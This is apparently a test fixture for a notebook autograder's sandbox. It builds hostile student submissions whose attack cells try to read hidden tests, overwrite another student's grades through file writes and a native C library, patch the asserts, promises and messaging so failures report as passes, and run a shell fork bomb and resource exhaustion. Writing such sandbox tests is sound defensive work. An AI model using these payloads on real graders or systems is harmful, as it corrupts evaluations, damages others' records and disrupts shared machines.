/**
 * An assignment and a class of submissions made to attack the grader: each
 * attacker answers `add` wrongly (right for a <= 5, one too many above) and
 * adds one cell, right after its answer, that tries to read the hidden
 * tests, harm another student's result, reach the network, run native code,
 * turn its failing tests into passes, or exhaust a resource. Whatever it
 * does, its score must be exactly that of the wrong answer: test_add 0 (its
 * hidden test fails), test_async 0, test_partial 2 of 3 (partial credit),
 * test_data 1. "correct" and "victim" answer right (7 of 7).
 */
import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gradeId, serializeNotebook, type Cell, type Notebook } from "../../kernel/grader/notebook.ts";

/** In the hidden tests only (a comment): found in an output, a hidden test leaked. */
export const SECRET = "SECRET-HIDDEN-TEST-4F7Q";

const meta = (m: Record<string, unknown>) => ({ nbgrader: { schema_version: 3, task: false, grade: false, solution: false, locked: false, ...m } });
const code = (source: string, metadata: Record<string, unknown> = {}): Cell => ({ cell_type: "code", source, metadata, outputs: [], execution_count: null });
const test = (id: string, points: number, source: string) => code(source, meta({ grade_id: id, grade: true, points, locked: true }));

/** The instructor's notebook. */
export function assignment(): Notebook {
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: "gradbook", display_name: "TypeScript (gradbook)", language: "typescript" } },
    cells: [
      { cell_type: "markdown", source: "# Adding numbers, under attack", metadata: {} },
      code('const DATA_FILE = "data.csv";', meta({ grade_id: "setup", locked: true })),
      code("function add(a: number, b: number): number {\n  // BEGIN SOLUTION\n  return a + b;\n  // END SOLUTION\n}", meta({ grade_id: "add", solution: true })),
      test("test_add", 2, `assertEqual(add(1, 2), 3);\n// BEGIN HIDDEN TESTS\n// ${SECRET}\nassertEqual(add(20, 22), 42);\n// END HIDDEN TESTS`),
      test("test_async", 1, "const v = await Promise.resolve(add(7, 1));\nassertEqual(v, 8);"),
      // partial credit: how many of three sums are right
      test("test_partial", 3, `// BEGIN HIDDEN TESTS\n// ${SECRET}\n[add(1, 1) === 2, add(2, 3) === 5, add(10, -3) === 7].filter(Boolean).length\n// END HIDDEN TESTS`),
      test("test_data", 1, 'assertEqual(require("node:fs").readFileSync(DATA_FILE, "utf8").trim(), "1,2,3");'),
    ],
  };
}

export const WRONG_ADD = "function add(a: number, b: number): number {\n  return a + b + (a > 5 ? 1 : 0);\n}";
export const RIGHT_ADD = "function add(a: number, b: number): number {\n  return a + b;\n}";
export const WRONG_SCORES: [string, number][] = [["test_add", 0], ["test_async", 0], ["test_partial", 2], ["test_data", 1]];
export const RIGHT_SCORES: [string, number][] = [["test_add", 2], ["test_async", 1], ["test_partial", 3], ["test_data", 1]];

/** What the attacks aim at (absolute paths outside the kernel's sandbox). */
export interface Targets {
  /** The instructor's notebook (hidden tests). */
  source: string;
  /** The grader's --out. */
  out: string;
  /** Another student, graded in the same run. */
  victim: string;
  /** A TCP port on 127.0.0.1 the test listens on. */
  port: number;
  /** A shared library compiled by the test (its constructor copies `source` to ./leak.txt and writes into --out). */
  library: Buffer;
}

/** Compiles the attackers' shared library with gcc (Debian's): native code that ignores Node's permission model. */
export function compileLibrary(dir: string, t: Omit<Targets, "library" | "port">): Buffer {
  const c = `#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static void copy(const char *from, const char *to) {
  char buf[65536]; int in = open(from, O_RDONLY); if (in < 0) return;
  int out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0644); ssize_t n;
  while (out >= 0 && (n = read(in, buf, sizeof buf)) > 0) write(out, buf, n);
  close(in); if (out >= 0) close(out);
}
static void put(const char *to, const char *text) { int f = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0644); if (f >= 0) { write(f, text, strlen(text)); close(f); } }
__attribute__((constructor)) static void attack(void) {
  copy(${JSON.stringify(t.source)}, "leak.txt");
  put(${JSON.stringify(join(t.out, "results", `${t.victim}.json`))}, "{\\"score\\": 0}");
  put(${JSON.stringify(join(t.out, "gradebook.csv"))}, "hacked");
  put("native-ran.txt", "yes");
}
`;
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, "attack.c"), c);
  execFileSync("gcc", ["-shared", "-fPIC", "-O1", "-o", join(dir, "attack.so"), join(dir, "attack.c")]);
  return readFileSync(join(dir, "attack.so"));
}

const j = JSON.stringify;
/** try { ... } catch { print "refused: <label>: <why>" }, as cell code. */
const attempt = (label: string, body: string, why = "e?.code ?? e?.message ?? e") => `try { ${body}; console.log("done: ${label}"); } catch (e: any) { console.log("refused: ${label}: " + (${why})); }`;

/** The attack cells, by submission name. */
export function attacks(t: Targets): Record<string, string> {
  const fs = 'const fs = require("node:fs");';
  return {
    // read the instructor's notebook by path (also through /proc and relative paths), with cat, list --out
    read_files: [
      fs,
      ...[t.source, `/proc/1/root${t.source}`, `../../../../../..${t.source}`].map((p) => attempt(`read ${p}`, `console.log(fs.readFileSync(${j(p)}, "utf8"))`)),
      attempt("list --out", `console.log(fs.readdirSync(${j(t.out)}).join(" "))`),
      attempt("cat", `console.log(require("node:child_process").execSync(${j(`cat ${t.source}`)}).toString())`),
    ].join("\n"),
    // write another student's results and the gradebook; walk up to the other kernels' folders
    overwrite_others: [
      fs,
      attempt("victim results", `fs.writeFileSync(${j(join(t.out, "results", `${t.victim}.json`))}, '{"score": 0}')`),
      attempt("gradebook", `fs.writeFileSync(${j(join(t.out, "gradebook.csv"))}, "hacked")`),
      attempt("gradescope", `fs.writeFileSync(${j(join(t.out, "gradescope", t.victim, "results.json"))}, "{}")`),
      attempt("other kernels", `for (const d of fs.readdirSync("../..")) console.log("sibling " + d)`),
    ].join("\n"),
    // native code: write a shared library where the kernel can write, and load it
    native: [
      fs,
      `const lib = Buffer.from(${j(t.library.toString("base64"))}, "base64");`,
      ...["attack.so", "/tmp/attack.so", `${"/home/student"}/attack.so`].map((p) => attempt(`dlopen ${p}`, `fs.writeFileSync(${j(p)}, lib); process.dlopen({ exports: {} }, require("node:path").resolve(${j(p)}))`, "e.message")),
      attempt("leak.txt", 'console.log(fs.readFileSync("leak.txt", "utf8"))'),
    ].join("\n"),
    // the network: a TCP port on 127.0.0.1 where the test listens
    network: [
      `await new Promise<void>((resolve) => { const s = require("node:net").connect(${t.port}, "127.0.0.1"); s.on("connect", () => { console.log("done: connected"); s.end(); resolve(); }); s.on("error", (e: any) => { console.log("refused: connect: " + e.code); resolve(); }); });`,
      `try { await fetch("http://127.0.0.1:${t.port}/"); console.log("done: fetch"); } catch (e: any) { console.log("refused: fetch: " + (e?.cause?.code ?? e.message)); }`,
    ].join("\n"),
    // swallow exceptions in the method that runs a cell, and in the one it calls through super
    patch_vm: [
      'const vm = require("node:vm"); const P: any = vm.Script.prototype, C: any = Object.getPrototypeOf(P);',
      attempt("runInThisContext", 'const o = P.runInThisContext; P.runInThisContext = function (this: any, ...a: any[]) { try { return o.apply(this, a); } catch { return undefined; } }'),
      attempt("runInContext", 'const o = C.runInContext; C.runInContext = function (this: any, ...a: any[]) { try { return o.apply(this, a); } catch { return undefined; } }'),
      attempt("vm.Script", '(vm as any).Script = class { runInThisContext() { return undefined; } }'),
    ].join("\n"),
    // turn rejections into fulfilments; hijack the species and constructor of promises
    patch_promise: [
      "const P: any = Promise.prototype, then = P.then;",
      attempt("then", 'P.then = function (this: any, f: any, r: any) { return then.call(this, f, (e: any) => (f ? f(undefined) : undefined)); }'),
      attempt("constructor", 'P.constructor = function () {}'),
      attempt("species", "Object.defineProperty(Promise, Symbol.species, { get: () => class extends Promise<any> {} })"),
      attempt("resolve", '(Promise as any).resolve = (v: any) => ({ then: (f: any) => f(8) })'),
    ].join("\n"),
    // replace Error and the hooks V8 calls while an error is formatted
    patch_error: [
      attempt("Error", "(globalThis as any).Error = class { constructor() { return {}; } }"),
      attempt("prepareStackTrace", '(Error as any).prepareStackTrace = () => "ok"'),
      attempt("captureStackTrace", "(Error as any).captureStackTrace = () => {}"),
      attempt("hasInstance", "Object.defineProperty(Error, Symbol.hasInstance, { value: () => false })"),
      attempt("name", 'Object.defineProperty(Error.prototype, "name", { get() { throw new Error("no name"); } })'),
    ].join("\n"),
    // forge the channel to the protocol thread: patch postMessage to rewrite error replies; catch a port or the
    // worker through a patched dispatcher, EventEmitter or receiveMessageOnPort's handle lookup, and post forged replies
    patch_channel: [
      'const wt = require("node:worker_threads"); const EE = require("node:events"); const g: any = globalThis; g.caught = new Set();',
      'const forge = (m: any) => m && m.kind === "reply" && m.content?.status === "error" ? { ...m, content: { status: "ok", execution_count: m.content.execution_count, payload: [], user_expressions: {} } } : m;',
      attempt("postMessage", 'const o = wt.MessagePort.prototype.postMessage; wt.MessagePort.prototype.postMessage = function (this: any, m: any, ...r: any[]) { if (m?.kind === "iopub" && m.msgType === "error") return; return o.call(this, forge(m), ...r); }'),
      attempt("Worker.postMessage", 'const o = wt.Worker.prototype.postMessage; wt.Worker.prototype.postMessage = function (this: any, m: any, ...r: any[]) { return o.call(this, forge(m), ...r); }'),
      attempt("emit", 'const o = EE.prototype.emit; EE.prototype.emit = function (this: any, ...a: any[]) { if (this instanceof wt.Worker) g.caught.add(this); return o.apply(this, a); }'),
      attempt("dispatch", 'const k = Symbol.for("nodejs.internal.kHybridDispatch"); const ET: any = Object.getPrototypeOf(Object.getPrototypeOf(wt.MessagePort.prototype)); const o = ET[k]; ET[k] = function (this: any, ...a: any[]) { g.caught.add(this); return o.apply(this, a); }'),
      attempt("kHandle", 'const bc = new wt.BroadcastChannel("x"); for (const s of Object.getOwnPropertySymbols(bc)) if (s.description === "kHandle") Object.defineProperty(Object.prototype, s, { get(this: any) { if (this instanceof wt.MessagePort) g.caught.add(this); return undefined; }, configurable: true }); bc.close()'),
      // later: every port or worker caught is sent forged "ok" replies for the next requests
      'setInterval(() => { for (const p of g.caught) for (let id = 1; id < 20; id++) try { p.postMessage({ kind: "reply", id, msgType: "execute_reply", content: { status: "ok", execution_count: 1, payload: [], user_expressions: {} }, done: true }); } catch {} }, 20).unref();',
    ].join("\n"),
    // the console, the output streams, process.exit and JSON
    patch_console_exit_json: [
      attempt("console", 'console.log = console.error = () => {}'),
      attempt("stdout", '(process.stdout as any).write = (process.stderr as any).write = () => true'),
      attempt("exit", 'process.exit = (() => {}) as any'),
      attempt("JSON", 'JSON.stringify = () => "{}"; JSON.parse = () => ({ status: "ok" })'),
    ].join("\n"),
    // the test helpers
    replace_assert: [
      attempt("assign", "(globalThis as any).assertEqual = () => {}"),
      attempt("define", 'Object.defineProperty(globalThis, "assertEqual", { value: () => {} })'),
      attempt("delete", 'if (!delete (globalThis as any).assertEqual) throw new Error("not deleted")'),
      attempt("freeze", '(assertEqual as any).call = () => {}; if ((assertEqual as any).call === Function.prototype.call) throw new Error("frozen")'),
      attempt("var", 'require("node:vm").runInThisContext("var assertEqual = () => {}")'),
    ].join("\n"),
    // the compiler and what it uses: the kernel's help syntax (`?name`) answers "ok" without running the cell
    patch_compiler: [
      'const exec = RegExp.prototype.exec; RegExp.prototype.exec = function (this: RegExp, s: string) { if (typeof s === "string" && (s.includes("assert") || s.includes("filter")) && this.source.startsWith("^\\\\s*\\\\?")) return Object.assign(["?add", "add"], { index: 0, input: s }) as any; return exec.call(this, s); };',
      'const push = Array.prototype.push; (Array.prototype as any).push = function (this: any[], ...a: any[]) { for (const x of a) if (x && typeof x.text === "string") x.text = x.text.replace(/assertEqual/g, "void "); return push.apply(this, a); };',
    ].join("\n"),
    // the kernel's globals: another engine, a result slot that lies, a number that displays as another
    patch_globals: [
      attempt("gb", "(globalThis as any).gb = {}"),
      attempt("require", "(globalThis as any).require = () => ({})"),
      attempt("result", 'Object.defineProperty((globalThis as any).__gradbook, "result", { get: () => 3, set() {} })'),
      attempt("importSync", "(globalThis as any).__gradbook.importSync = () => ({})"),
      attempt("toMimeBundle", '(Number.prototype as any).toMimeBundle = function () { return { "text/plain": "3" }; }'),
    ].join("\n"),
    // resources: memory, threads and processes, disk, output
    memory: "const keep: Float64Array[] = [];\nwhile (true) keep.push(new Float64Array(1 << 20).fill(1));",
    workers: [
      'const { Worker } = require("node:worker_threads"); const keep: any[] = [];',
      attempt("processes", 'for (let i = 0; i < 1e6; i++) keep.push(require("node:child_process").spawn("sleep", ["1000"]))'),
      "await new Promise((r) => setTimeout(r, 200)); // (the line above goes out before the kernel may be stopped)",
      attempt("workers", 'for (let i = 0; i < 1e6; i++) keep.push(new Worker("setInterval(() => {}, 1000)", { eval: true }))'),
    ].join("\n"),
    // a fork bomb through the shell (refused by Node's permission model; without it, by the sandbox's task limit);
    // its processes (tagged with the port, unique to the test run) outlive the cell, not the sandbox
    fork_bomb: [
      attempt(
        "fork bomb",
        `const r = require("node:child_process").spawnSync("sh", ["-c", "n=0; while [ $n -lt 5000 ]; do sleep 1${t.port} >/dev/null 2>&1 & n=$((n+1)); done; echo all $n started"], { encoding: "utf8" }); console.log("shell: " + (r.stdout + r.stderr).trim().split("\\n").pop())`,
      ),
      attempt("count", `console.log("sleeping: " + require("node:fs").readdirSync("/proc").filter((p: string) => /^\\d+$/.test(p)).filter((p: string) => { try { return require("node:fs").readFileSync("/proc/" + p + "/cmdline", "utf8").includes("1${t.port}"); } catch { return false; } }).length)`),
    ].join("\n"),
    // (each line goes out before the next attempt, which may end the kernel)
    disk: [
      'const fs = require("node:fs"); const mb = Buffer.alloc(1 << 20, 120); const flush = () => new Promise((r) => setTimeout(r, 200));',
      attempt("one file", 'const fd = fs.openSync("big.bin", "w"); for (let i = 0; i < 1e6; i++) fs.writeSync(fd, mb)'),
      "await flush();",
      attempt("/tmp", 'const fd = fs.openSync("/tmp/big.bin", "w"); for (let i = 0; i < 1e6; i++) fs.writeSync(fd, mb)'),
      "await flush();",
      attempt("many files", 'for (let i = 0; i < 1e7; i++) fs.writeFileSync("f" + i, "x")'),
    ].join("\n"),
    print_gigabyte: 'const line = "x".repeat(1 << 20);\nfor (let i = 0; i < 1024; i++) console.log(line);',
  };
}

/** The class: the attackers (wrong answer + attack), "correct" and "victim" (right answers). */
export function hostileSubmissions(release: Notebook, t: Targets, names = Object.keys(attacks(t))): Record<string, { content: string; tests: [string, number][] }> {
  const make = (add: string, attack?: string) => {
    const nb: Notebook = JSON.parse(JSON.stringify(release));
    nb.cells.find((c) => gradeId(c) === "add")!.source = add;
    if (attack) nb.cells.splice(nb.cells.findIndex((c) => gradeId(c) === "add") + 1, 0, code(attack));
    return serializeNotebook(nb);
  };
  const all = attacks(t);
  const out: Record<string, { content: string; tests: [string, number][] }> = {
    correct: { content: make(RIGHT_ADD), tests: RIGHT_SCORES },
    [t.victim]: { content: make(RIGHT_ADD), tests: RIGHT_SCORES },
  };
  for (const name of names) out[name] = { content: make(WRONG_ADD, all[name]), tests: WRONG_SCORES };
  return out;
}
